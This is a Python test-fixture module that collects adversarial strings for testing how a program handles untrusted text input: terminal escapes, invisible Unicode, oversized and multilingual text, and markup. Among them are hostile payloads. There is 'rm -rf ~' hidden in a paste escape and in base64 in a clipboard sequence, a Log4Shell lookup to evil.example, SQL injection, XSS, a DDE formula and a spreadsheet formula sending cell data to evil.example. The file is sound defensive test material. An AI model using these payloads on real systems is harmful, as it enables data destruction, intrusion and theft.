"""What hostile people, careless programs and odd keyboards put into a text field.

`BIG_LIST` is the Big List of Naughty Strings; the rest is ours, by what it attacks. Nothing here
knows how the program answers: that is the tests' to say.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Final

DATA: Final = Path(__file__).parents[1] / "data"
BIG_LIST: Final[tuple[str, ...]] = tuple(
    dict.fromkeys(json.loads((DATA / "blns.json").read_text(encoding="utf-8")))
)

ESC, CSI, BEL, ST = "\x1b", "\x9b", "\a", "\x1b\\"

TERMINAL: Final = {
    "colour": f"{ESC}[95;7mX",
    "clear": f"{ESC}[2J{ESC}[H",
    "cursor up": f"{ESC}[5A{ESC}[2KX",
    "private mode": f"{ESC}[?1049h",
    "mouse": f"{ESC}[?1003h",
    "device query": f"{ESC}[6n{ESC}[c{ESC}[>q",
    "window report": f"{ESC}[21t",
    "scroll region": f"{ESC}[1;2r",
    "insert line": f"{ESC}[9999L",
    "repeat": f"X{ESC}[99999b",
    "reset": f"{ESC}c",
    "charset": f"{ESC}(0lqqk\x0e",
    "title": f"{ESC}]0;owned{BEL}",
    "title by ST": f"{ESC}]2;owned{ST}",
    "link": f"{ESC}]8;;file:///etc/passwd{ST}here{ESC}]8;;{ST}",
    "clipboard": f"{ESC}]52;c;cm0gLXJmIH4={BEL}",
    "palette": f"{ESC}]4;0;rgb:ff/ff/ff{ST}",
    "notify": f"{ESC}]9;owned{BEL}{ESC}]777;notify;a;b{BEL}",
    "DCS": f'{ESC}P$q"p{ST}{ESC}P+q544e{ST}',
    "sixel": f"{ESC}Pq#0;2;0;0;0~~{ST}",
    "APC": f"{ESC}_Ga=T;AAAA{ST}",
    "PM": f"{ESC}^secret{ST}",
    "SOS": f"{ESC}Xsecret{ST}",
    "tmux": f"{ESC}Ptmux;{ESC}{ESC}]52;c;eA=={BEL}{ST}",
    "unfinished": f"X{ESC}[",
    "lone escape": f"X{ESC}",
    "C1 CSI": f"{CSI}31mX",
    "C1 OSC": "\x9d0;owned\x9c",
    "C1 DCS": "\x90q\x9c",
    "C1 APC": "\x9fX\x9c",
    "C1 SOS": "\x98X\x9c",
    "C1 PM": "\x9eX\x9c",
    "every C1": "".join(map(chr, range(0x80, 0xA0))),
    "every C0": "".join(map(chr, range(1, 0x20))) + "\x7f",
    "bell": "X\a\a",
    "backspace": "safe\b\b\b\bevil",
    "return": "pipeline: all is well\rX",
    "vertical tab": "X\vX",
    "form feed": "X\fX",
    "delete": "X\x7f\x7f",
    "shift out": "X\x0eX\x0f",
    "xoff": "X\x13X",
    "nul": "X\0Y",
    "separators": "X\x1c\x1d\x1e\x1fY",
    "next line": "X\x85Y",
}
"""Each has a control character in it."""

LINES: Final = {
    "newline": "one\ntwo",
    "many lines": "a\n" * 60 + "b",
    "tab": "one\ttwo",
    "CRLF": "one\r\ntwo",
    "a false row": "x\n  99  Mallory       Closed",
    "a false error": "x\npipeline: error: call 0900-123456",
    "paste": f"{ESC}[201~rm -rf ~\n",
}
"""What a note may partly hold, and a line may not."""

INVISIBLE: Final = {
    "override": "abc\u202egpj.exe",
    "embedding": "\u202aa\u202b\u202cb",
    "isolates": "\u2066a\u2067b\u2068c\u2069",
    "marks": "a\u200e\u200f\u061cb",
    "unclosed": "\u2067\u202e\u202eX",
    "zero-width": "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "only zero-width": "\u200b\u200d\u2060",
    "soft hyphen": "so\u00adft",
    "fillers": "a\u3164\uffa0\u115f\u1160\u2800b",
    "tags": "flag\U000e0067\U000e0062\U000e007f",
    "variations": "\u2764\ufe0f\u2764\ufe0e\u845b\U000e0100",
    "line separators": "a\u2028b\u2029c",
    "annotation": "\ufff9a\ufffab\ufffb",
    "noncharacters": "a\ufffe\uffff\ufdd0\U0010ffffb",
    "private use": "a\ue000\uf8ff\U000f0000b",
    "unassigned": "a\u0378\U0001ffc0b",
    "blanks": "a\u00a0\u1680\u2000\u2003\u200a\u202f\u205f\u3000b",
    "musical": "\U0001d173a\U0001d17a",
    "mongolian": "a\u180e\u180bb",
}
"""Nobody sees these, or sees another text than there is. None is a control character."""

HEAVY: Final = {
    "1,000 marks": "e" + "\u0301" * 1_000,
    "1,000 marks alone": "\u0338" * 1_000,
    "1,000 enclosing": "a" + "\u20dd" * 1_000 + "b",
    "zalgo": "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324a\u0303\u0304l",
    "long word": "x" * 5_000,
    "long Chinese": "王" * 5_000,
    "long words": "lorem ipsum " * 400,
    "long emoji": "👨\u200d👩\u200d👧" * 500,
    "beyond every limit": "y" * 200_000,
}

WIDE: Final = {
    "Chinese": "欧阳娜娜（Nana）",
    "rare Chinese": "𠮷野家𡈽\U00030000",
    "full width": "Ｊｏｈｎ　Ｓｍｉｔｈ",
    "half width": "ｶﾀｶﾅ",
    "Hebrew": "בנימין בן־דוד",
    "Arabic": "محمد بن سلمان 123",
    "two directions": "Ann (אן) Lee 50%",
    "Persian": "می\u200cخواهم",
    "Hindi": "क्षत्रिय हिन्दी",
    "Thai": "สวัสดีครับ ญี่ปุ่น",
    "Tibetan": "བོད་ཡིག",
    "Burmese": "မြန်မာ",
    "Hangul": "각\u1100\u1161\u11a8",
    "Vietnamese": "Nguyê\u0303n Thi\u0323",
    "family": "👨\u200d👩\u200d👧\u200d👦",
    "skin": "👍🏿👩🏽\u200d🚒",
    "flags": "🇨🇳🇺🇸🏴\U000e0067\U000e007f🇦",
    "keycap": "1\ufe0f\u20e3",
    "newer emoji": "\U0001fae8\U0001fac6",
    "ambiguous": "“…”—·①→█Ω°",
    "blocks": "│─┼▏█░",
    "CJK compatibility": "豈㍿㈱㋿﷽",
}

MARKUP: Final = {
    "closing": "[/]",
    "bold": "[bold red]x[/bold red]",
    "style": "[link=http://evil.example]y[/link]",
    "action": "[@click=app.quit]z[/]",
    "emoji": ":smile: :pile_of_poo:",
    "backslash": "\\[bold]",
    "Markdown": "**a** _b_ `c` # d ![i](http://evil.example/x.png) [l](javascript:alert(1))",
    "a table": "a | b | c\\| d",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>&lt;",
    "name": "{name}",
    "format": "{0.__class__.__mro__} {who!r:>999999} {} {{}} {stage",
    "percent": "%s %d %(name)s %n %%",
    "template": "${name} $HOME `id` $(id) #{7*7} {{7*7}}",
    "logging": "${jndi:ldap://evil.example/a}",
    "SQL": "'; DROP TABLE card; --",
    "SQL or": "' OR '1'='1",
    "SQL double": '"; DELETE FROM attempt; --',
    "SQL union": "x') UNION SELECT name FROM sqlite_master --",
    "binds": ":name ?1 @x $y",
    "wildcards": "100%_x_%",
    "one percent": "%",
    "one underscore": "_",
    "glob": "*?[a-z]",
    "formula": "=cmd|' /C calc'!A0",
    "formulas": "+1+1 -2 @SUM(A1)",
    "DDE": '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "full-width formula": "＝1＋1",
    "quotes": "a\"b'c`d“e”f,g;h",
    "separator": "sep=;",
    "JSON": '{"a": [1, null, "\\u0000"]}',
    "option": "--force",
    "dash": "-",
    "home": "~/x ../../y /etc/passwd C:\\x",
    "Excel date": "1-2",
    "null": "null None NaN inf true",
    "a number": "1",
    "zero": "0",
    "an id": "007",
}
"""What some other reader would take for more than text; all of it can be printed."""

OURS: Final = {
    **{f"terminal: {name}": text for name, text in TERMINAL.items()},
    **{f"lines: {name}": text for name, text in LINES.items()},
    **{f"invisible: {name}": text for name, text in INVISIBLE.items()},
    **{f"heavy: {name}": text for name, text in HEAVY.items()},
    **{f"wide: {name}": text for name, text in WIDE.items()},
    **{f"markup: {name}": text for name, text in MARKUP.items()},
}
EVERY: Final = tuple(dict.fromkeys((*OURS.values(), *BIG_LIST)))

BYTES: Final = (
    b"\xff",
    b"\x9b31mX",
    b"\x9d0;owned\x9c",
    b"\xc0\xaf\xc0\x80",
    b"\xed\xa0\x80\xed\xb0\x80",
    b"\xf5\x80\x80\x80",
    b"ok\xe7\x8e",
    "王".encode("gb18030"),
    b"\x80\x81\x85\x8d\x90",
)
"""What argv can carry that is no UTF-8: the first bytes of C1 controls among it."""
